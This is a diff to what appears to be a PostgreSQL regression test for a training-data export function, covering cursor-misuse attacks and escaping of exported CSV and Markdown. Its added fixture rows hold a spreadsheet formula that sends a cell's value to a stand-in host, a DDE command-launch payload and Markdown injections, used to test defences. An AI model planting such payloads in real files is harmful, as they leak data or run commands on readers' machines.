@@ -6,13 +6,14 @@
 -- by a cursor of the same name with other column types (1.1 then read
 -- integers as pointers and the backend died), to move it, or to fetch from
 -- it.  Each attempt fails with a clean error, and an export without the
--- attack still returns every record.
+-- attack still returns every record.  Then files that attack their reader:
+-- spreadsheet formulas in CSV, structure in Markdown titles.
 
 \set alice '''aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa'''
 
--- Three approved conversations of alice's: the records come from more than
--- one fetch of the cursor, so an attack after the first record is followed
--- by another fetch.
+-- Three approved conversations of alice's, 1,500 turns each: the cursor is
+-- fetched 2,000 rows at a time, so rows are left in it after the first
+-- record, and an attack after the first record is followed by another fetch.
 SET row_security = off;
 INSERT INTO train_data.conversations (id, conversation_id, title, persona, emotion, topic, tier, status, created_at,
                                       updated_at, created_by)
@@ -24,7 +25,7 @@ VALUES ('ea000000-0000-0000-0000-000000000001', 'tpl_a_000001', 'One', 'Ann', 'c
         '2025-01-03 10:00:00+00', '2025-01-03 10:00:00+00', :alice);
 INSERT INTO train_data.conversation_turns (conversation_id, turn_number, role, content)
 SELECT c.id, n, CASE n WHEN 1 THEN 'user' ELSE 'assistant' END, 'turn ' || n
-FROM train_data.conversations c, generate_series(1, 2) n;
+FROM train_data.conversations c, generate_series(1, 1500) n;
 RESET row_security;
 
 -- alice's own schema, where she writes the attacking functions.
@@ -97,11 +98,41 @@ SELECT regress_alice_code.attack($$SELECT pg_catalog.string_agg(l || ' ' || s, '
     FROM (SELECT pg_catalog.left(train_data.export_jsonl(), 30) AS l, regress_alice_code.steal_rows() AS s) x$$);
 -- Without an attack (the same kind of query, a harmless function beside the
 -- export): every record.
-SELECT pg_catalog.left(train_data.export_jsonl(), 60) AS line, pg_catalog.length(CURRENT_USER::text) AS beside;
--- An export stopped early leaves no cursor behind, and the next one works.
-SELECT pg_catalog.left(train_data.export_jsonl(), 60) AS line LIMIT 1;
+SELECT pg_catalog.substring(train_data.export_jsonl(), 'tpl_a_[0-9]+') AS conversation,
+       pg_catalog.length(CURRENT_USER::text) AS beside;
+-- An export stopped early closes its cursor at once (not at the end of the
+-- transaction, which could not commit with the cursor still pinned), and
+-- the next one works.
+BEGIN;
+SELECT pg_catalog.substring(train_data.export_jsonl(), 'tpl_a_[0-9]+') AS conversation LIMIT 1;
 SELECT name FROM pg_catalog.pg_cursors;
 SELECT pg_catalog.count(*) AS records FROM train_data.export_jsonl();
+COMMIT;
+
+-- A file that attacks its reader: text that a spreadsheet would run as a
+-- formula (a CSV field starting with = + - @, a tab or a carriage return
+-- gets a single quote in front, inside its quotes), and a title that would
+-- add Markdown structure (escaped, one line).
+RESET ROLE;
+SET row_security = off;
+DELETE FROM train_data.conversations;
+INSERT INTO train_data.conversations (id, conversation_id, title, persona, emotion, topic, tier, status, created_at,
+                                      updated_at, created_by)
+VALUES ('ea000000-0000-0000-0000-000000000009', 'tpl_a_000009',
+        E'=HYPERLINK("http://x.example/?"&A1,"Click")\n# Injected heading\n- [link](http://x.example) *b* <i>', '@Ann',
+        '-calm', E'\tsaving', 'template', 'approved', '2025-01-09 10:00:00+00', '2025-01-09 10:00:00+00', :alice);
+INSERT INTO train_data.conversation_turns (conversation_id, turn_number, role, content)
+VALUES ('ea000000-0000-0000-0000-000000000009', 1, 'user', '+1+cmd|'' /C calc''!A0'),
+       ('ea000000-0000-0000-0000-000000000009', 2, 'assistant', E'\r=2+3, and a - b = c\r# Out of the quote?\r\nno');
+RESET row_security;
+SET ROLE regress_alice;
+-- (tabs and carriage returns shown as <TAB> and <CR>)
+SELECT pg_catalog.replace(pg_catalog.replace(r, E'\t', '<TAB>'), E'\r', '<CR>') AS csv
+FROM train_data.export_conversations('csv', 'all', '{"includeTimestamps": false}') r;
+-- and a carriage return in a turn ends a quoted line, as Markdown reads it
+SELECT pg_catalog.replace(pg_catalog.replace(r, E'\t', '<TAB>'), E'\r', '<CR>') AS markdown
+FROM train_data.export_conversations('markdown', 'all', '{"includeTimestamps": false}') WITH ORDINALITY x (r, n)
+WHERE n > 1;
 
 RESET ROLE;
 RESET train_data.user_id;
